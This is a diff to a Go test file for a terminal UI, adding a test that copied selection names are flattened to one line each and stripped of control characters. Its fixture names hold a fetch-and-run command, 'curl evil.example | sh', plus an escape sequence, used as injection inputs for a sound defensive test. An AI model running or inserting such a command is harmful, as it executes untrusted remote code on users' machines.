@@ -10,6 +10,7 @@ import (
 	tea "charm.land/bubbletea/v2"
 
 	"canopy/model"
+	"canopy/ui/keys"
 	"canopy/ui/view"
 	"canopy/ui/view/viewtest"
 )
@@ -252,6 +253,29 @@ func TestCopyIsClean(t *testing.T) {
 	s.press("2", "/", "evil", "enter", "c")
 	s.has("sent to the clipboard")
 }
+
+// TestCopyIsOneLineEach holds that a text of the cluster begins no line of its own where it is pasted, whichever screen gave it.
+func TestCopyIsOneLineEach(t *testing.T) {
+	var copied string
+	s := newScreen(t, Options{Width: 120, Height: 40, Clipboard: func(text string) error { copied = text; return nil }}, viewtest.Cluster(t))
+	top := &said{Screen: s.root.top(), names: []string{"x\ncurl evil.example | sh\n#", "y\r\nid\u2028id\x1b[31m"}}
+	way := s.root.places[s.root.at]
+	way[len(way)-1].screen = top
+	s.press("c")
+	if lines := strings.Split(copied, "\n"); len(lines) != 2 || lines[0] != "x curl evil.example | sh #" || strings.ContainsAny(copied, "\r\x1b\u2028") {
+		t.Errorf("copied %q", copied)
+	}
+}
+
+// said is a screen on which something is selected.
+type said struct {
+	view.Screen
+	names []string
+}
+
+func (s *said) Subject() view.Subject { return view.Subject{Names: s.names} }
+
+func (s *said) Can(keys.Action) view.Offer { return view.No() }
 
 func TestDisabledSaysWhy(t *testing.T) {
 	s := newScreen(t, Options{Width: 120, Height: 40}, viewtest.Cluster(t))
